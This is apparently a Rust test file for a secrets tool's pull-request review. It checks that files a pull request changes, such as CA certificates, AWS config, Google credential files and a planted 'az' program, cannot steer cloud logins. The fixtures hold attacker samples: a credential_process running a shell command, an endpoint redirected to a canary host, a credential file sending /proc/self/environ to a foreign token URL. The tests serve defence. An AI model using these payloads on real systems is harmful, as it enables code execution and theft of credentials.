//! Files that a login reads and the checkout holds: a pull request that brings other bytes is planned
//! offline.

use crate::canary::Canary;
use crate::stage::{BASE, CHANGE, Stage};

const ONLINE: [(&str, &str); 1] = [("plan_mode", "online")];

/// The base with a block that names a file.
fn base(block: &str) -> String {
    let text = BASE.replace("  local:\n", &format!("  more: {block}\n  local:\n"));
    assert_ne!(text, BASE, "the base has changed");
    text
}

/// What a pull request comes to that brings these bytes for a file that was `ours` before.
fn reviewed(block: &str, bytes: &[u8]) -> (Stage, String) {
    let (stage, base) = (Stage::new(), base(block));
    stage.github.commit("main", &[("Secretfile.yml", base.as_bytes()), ("trust/ca.pem", b"ours")]);
    let text = format!("{base}{CHANGE}");
    let head = stage.github.commit("change", &[("Secretfile.yml", text.as_bytes()), ("trust/ca.pem", bytes)]);
    let pull = stage.github.open_pull("change", "main");
    stage.checkout(&text);
    stage.sandbox.write_bytes("trust/ca.pem", bytes);
    let ran = stage.pull_request(pull, &head, &ONLINE);
    let comment = format!("{}\n{ran:?}", stage.comment(pull));
    (stage, comment)
}

const VAULT: &str =
    "{kind: vault, auth: {kind: token, config: {url: 'https://vault.example.com', token: x, ca_cert: FILE}}}";

const BLOCKS: [&str; 4] = [
    VAULT,
    "{kind: vault, auth: {kind: token, config: {url: 'https://vault.example.com', token: x, client_cert: FILE, client_key: FILE}}}",
    "{kind: vault, auth: {kind: jwt, config: {url: 'https://vault.example.com', role: x, jwt: FILE}}}",
    "{kind: gcp, auth: {kind: credentials_file, config: {project_id: shop-prod, credentials_file: FILE}}}",
];

#[test]
fn a_file_that_the_pull_request_changes_takes_the_plan_offline() {
    for block in BLOCKS {
        let block = block.replace("FILE", "trust/ca.pem");
        let (stage, comment) = reviewed(&block, b"of the attacker");
        assert!(comment.contains("names a file of the checkout"), "{block}: {comment}");
        assert_eq!(stage.aws.total(), 0, "{block}");
    }
}

#[test]
fn a_file_that_climbs_and_comes_back_is_the_same_file() {
    let (stage, comment) = reviewed(&VAULT.replace("FILE", "other/../trust/ca.pem"), b"of the attacker");
    assert!(comment.contains("names a file of the checkout") && stage.aws.total() == 0, "{comment}");
}

#[test]
fn a_file_that_is_the_bases_still_or_the_runners_changes_nothing() {
    for file in ["trust/ca.pem", "/etc/ssl/certs/ca.pem"] {
        let (stage, comment) = reviewed(&VAULT.replace("FILE", file), b"ours");
        assert!(!comment.contains("names a file of the checkout"), "{file}: {comment}");
        assert!(stage.aws.total() > 0, "{file}: {comment}");
    }
}

/// What a runner's environment says, and a pull request that brings `theirs` where the base has `ours`.
struct Steered {
    stage: Stage,
    elsewhere: Canary,
    pull: u64,
    head: String,
}

impl Steered {
    /// `ours` and `theirs` are the files of the base and of the change; `ELSEWHERE` in them is the canary.
    fn new(base: &str, change: &str, ours: &[(&str, &str)], theirs: &[(&str, &str)]) -> Self {
        let (stage, elsewhere) = (Stage::new(), Canary::start());
        let there = |files: &[(&str, &str)]| -> Vec<(String, String)> {
            let text = |text: &str| text.replace("ELSEWHERE", &elsewhere.address());
            files.iter().map(|(path, bytes)| ((*path).to_owned(), text(bytes))).collect()
        };
        let commit = |branch: &str, secretfile: &str, files: &[(String, String)]| {
            let mut tree = vec![("Secretfile.yml", secretfile.as_bytes())];
            tree.extend(files.iter().map(|(path, text)| (path.as_str(), text.as_bytes())));
            stage.github.commit(branch, &tree)
        };
        commit("main", base, &there(ours));
        let head = commit("change", change, &there(theirs));
        let pull = stage.github.open_pull("change", "main");
        stage.checkout(change);
        for (path, text) in there(theirs) {
            stage.sandbox.write(&path, &text);
        }
        Self { stage, elsewhere, pull, head }
    }

    /// With the base of these tests and one secret more.
    fn aws(ours: &[(&str, &str)], theirs: &[(&str, &str)]) -> Self {
        Self::new(BASE, &format!("{BASE}{CHANGE}"), ours, theirs)
    }

    fn env(mut self, name: &str, value: &str) -> Self {
        self.stage.job.cloud.insert(name.to_owned(), value.to_owned());
        self
    }

    /// Without the cloud's address, so that what a file says would count, and with no way out.
    fn unaddressed(mut self) -> Self {
        self.stage.job.cloud.remove("AWS_ENDPOINT_URL");
        self.env("HTTPS_PROXY", "http://127.0.0.1:9").env("AWS_EC2_METADATA_DISABLED", "true")
    }

    /// What the job and its comment say.
    fn run(&self) -> String {
        let inputs = [("plan_mode", "online"), ("retry_max_attempts", "1")];
        let ran = self.stage.pull_request(self.pull, &self.head, &inputs);
        assert_eq!(self.elsewhere.count(), 0, "{}: {ran:?}", self.elsewhere.heard());
        assert!(!self.stage.sandbox.path("pwned").exists(), "{ran:?}");
        format!("{}\n{ran:?}", self.stage.comment(self.pull))
    }

    fn is_offline_for(&self, variable: &str) {
        let said = self.run();
        assert!(said.contains(&format!("`{variable}` leads to a file of the checkout")), "{said}");
        assert_eq!(self.stage.aws.total(), 0, "{said}");
    }
}

const CONFIG: &str = ".aws/config";
const BENIGN: &str = "[default]\nregion = us-east-1\n";
const ENDPOINT: &str = "[default]\nregion = us-east-1\nendpoint_url = http://ELSEWHERE\n";
const PROGRAM: &str = "[default]\nregion = us-east-1\ncredential_process = /bin/sh -c \"touch pwned; echo {}\"\n";

#[test]
fn a_configuration_of_aws_that_the_environment_names_is_the_bases_in_a_review() {
    for theirs in [ENDPOINT, PROGRAM] {
        let steered = Steered::aws(&[(CONFIG, BENIGN)], &[(CONFIG, theirs)]).unaddressed();
        steered.env("AWS_CONFIG_FILE", CONFIG).is_offline_for("AWS_CONFIG_FILE");
        // The base has none, and the runner's home is the checkout.
        Steered::aws(&[], &[(CONFIG, theirs)]).unaddressed().is_offline_for("HOME");
    }
}

#[test]
fn a_configuration_of_aws_that_is_the_bases_or_the_jobs_own_changes_nothing() {
    for ours in [&[(CONFIG, BENIGN)][..], &[]] {
        let steered = Steered::aws(ours, ours).env("AWS_CONFIG_FILE", CONFIG);
        steered.stage.sandbox.write(CONFIG, BENIGN);
        let said = steered.run();
        assert!(steered.stage.aws.total() > 0 && !said.contains("leads to a file"), "{said}");
    }
}

#[test]
fn a_link_to_a_file_of_the_job_is_not_the_bases() {
    let steered = Steered::aws(&[(CONFIG, BENIGN)], &[]).env("AWS_CONFIG_FILE", CONFIG);
    steered.stage.sandbox.write("own", BENIGN);
    std::fs::create_dir_all(steered.stage.sandbox.path(".aws")).unwrap();
    std::os::unix::fs::symlink("../own", steered.stage.sandbox.path(CONFIG)).unwrap();
    steered.is_offline_for("AWS_CONFIG_FILE");
}

/// Defence in depth: even where the runner's own file says so.
#[test]
fn no_profile_leads_a_plan_elsewhere_or_starts_a_program() {
    for (theirs, says) in [(ENDPOINT, ""), (PROGRAM, "no program is started")] {
        let runner = tempfile::tempdir().unwrap();
        let path = runner.path().join("config");
        let steered = Steered::aws(&[], &[]).unaddressed().env("AWS_CONFIG_FILE", path.to_str().unwrap());
        #[expect(clippy::disallowed_methods, reason = "a test prepares its own files")]
        std::fs::write(&path, theirs.replace("ELSEWHERE", &steered.elsewhere.address())).unwrap();
        let mut steered = steered;
        if theirs == PROGRAM {
            steered.stage.job.cloud.retain(|name, _| !name.contains("KEY"));
        }
        let said = steered.run();
        assert!(said.contains(says) && !said.contains("leads to a file"), "{said}");
    }
}

#[cfg(feature = "gcp")]
mod google {
    use super::Steered;

    const SECRETFILE: &str = "metadata: {project_id: demo}
providers:
  g: {kind: gcp, auth: {kind: ambient, config: {project_id: my-project}}}
secrets:
  - name: api_key
    kind: random_string
    targets: [{provider: g, kind: secret_manager, config: {secret_id: api-key}}]
";

    /// The environment of the job, sent to whoever the file says.
    fn credentials(token_url: &str) -> String {
        format!(
            r#"{{"type": "external_account", "token_url": "{token_url}",
                "audience": "//iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/providers/x",
                "subject_token_type": "urn:ietf:params:oauth:token-type:jwt",
                "credential_source": {{"file": "/proc/self/environ"}}}}"#
        )
    }

    fn changed() -> String {
        SECRETFILE.replace("secret_id: api-key", "secret_id: api-key-2")
    }

    #[test]
    fn a_file_of_googles_that_the_environment_names_is_the_bases_in_a_review() {
        let ours = credentials("https://sts.googleapis.com/v1/token");
        let theirs = credentials("http://ELSEWHERE/v1/token");
        let steered = Steered::new(SECRETFILE, &changed(), &[("gcp.json", &ours)], &[("gcp.json", &theirs)]);
        steered
            .env("GOOGLE_APPLICATION_CREDENTIALS", "gcp.json")
            .env("HTTPS_PROXY", "http://127.0.0.1:9")
            .is_offline_for("GOOGLE_APPLICATION_CREDENTIALS");
        let folder = [(".config/gcloud/application_default_credentials.json", theirs.as_str())];
        Steered::new(SECRETFILE, &changed(), &[], &folder).is_offline_for("HOME");
    }

    #[test]
    fn no_file_of_googles_leads_a_plan_to_another_host() {
        let steered = Steered::new(SECRETFILE, &changed(), &[], &[]).env("GOOGLE_APPLICATION_CREDENTIALS", "own.json");
        let theirs = credentials(&format!("http://{}/v1/token", steered.elsewhere.address()));
        steered.stage.sandbox.write("own.json", &theirs);
        let said = steered.run();
        assert!(!said.contains("leads to a file"), "{said}");
    }
}

/// `az` is a program, so in a review none of the checkout is started, and none stands in it.
#[cfg(feature = "azure")]
#[test]
fn the_azure_cli_is_not_looked_for_in_the_checkout() {
    use std::os::unix::fs::PermissionsExt as _;
    let text = "metadata: {project_id: demo}
providers:
  a: {kind: azure, auth: {kind: cli}}
secrets:
  - name: api_key
    kind: random_string
    targets: [{provider: a, kind: key_vault, config: {vault_url: 'https://shop.vault.azure.net', secret_name: api-key}}]
";
    let steered = Steered::new(text, &text.replace("secret_name: api-key", "secret_name: api-key-2"), &[], &[]);
    let runner = tempfile::tempdir().unwrap();
    let own = runner.path().display().to_string();
    let bin = steered.stage.sandbox.path("bin").display().to_string();
    let steered = steered.env("PATH", &format!(".:{bin}:{own}:/usr/bin:/bin")).env("HTTPS_PROXY", "http://127.0.0.1:9");
    steered.stage.sandbox.write("bin/az", "#!/bin/sh\ntouch pwned\n");
    steered.stage.sandbox.write("az", "#!/bin/sh\ntouch pwned\n");
    let told = runner.path().join("told");
    #[expect(clippy::disallowed_methods, reason = "a test prepares its own files")]
    std::fs::write(runner.path().join("az"), format!("#!/bin/sh\npwd >'{}'\nexit 1\n", told.display())).unwrap();
    for program in [steered.stage.sandbox.path("bin/az"), steered.stage.sandbox.path("az"), runner.path().join("az")] {
        std::fs::set_permissions(program, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let said = steered.run();
    assert_eq!(std::fs::read_to_string(told).unwrap_or_default(), "/\n", "{said}");
}
